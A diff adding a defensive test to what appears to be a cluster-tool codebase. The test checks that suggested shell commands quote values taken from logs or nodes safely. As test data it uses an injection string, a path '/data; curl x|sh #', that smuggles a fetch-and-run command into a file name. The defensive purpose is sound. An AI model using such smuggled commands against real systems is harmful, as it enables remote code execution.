@@ -3,11 +3,12 @@
 from __future__ import annotations
 
 import re
+import string
 from collections import Counter
 from pathlib import Path
 
 from rocstack.base import finding_texts, paths
-from rocstack.base.errors import BadInput, Where
+from rocstack.base.errors import BadInput, Where, error_texts
 from rocstack.base.finding_texts import Entry
 from rocstack.base.findings import LEVELS, Finding, in_order
 from rocstack.deploy.plan.plan import as_rows
@@ -46,6 +47,19 @@ def test_values_fill_the_sentences() -> None:
     finding = entry.finding({"a": 1, "b": 2, "level": "note"}, node="n1")
     assert finding == Finding("x", "note", "1 on NODE", "2", "`ls INVENTORY`", "s", "n1")
     assert entry.finding({"a": 1, "b": 2, "node": "n1"}).what == "1 on n1"
+
+
+def test_no_command_that_a_finding_or_an_error_names_runs_what_a_log_or_a_node_says() -> None:
+    for text in [entry.next for entry in ENTRIES] + [text.get("next", "") for text in error_texts().values()]:
+        for command in text.split("`")[1::2]:
+            before = ""
+            for literal, name, _, _ in string.Formatter().parse(command):
+                before += literal
+                # Within quotes of the command's own a value would end them; a port is a number.
+                assert name in (None, "port") or before.count("'") % 2 == 0, text
+    entry = finding_texts.table()["slurm-chdir"]
+    found = entry.read("couldn't chdir to `/data; curl x|sh #': No such file or directory: going to /tmp")
+    assert "`srun -w NODE ls -ld '/data; curl x|sh #'`" in entry.finding(found).next
 
 
 def test_every_document_has_the_one_shape() -> None:
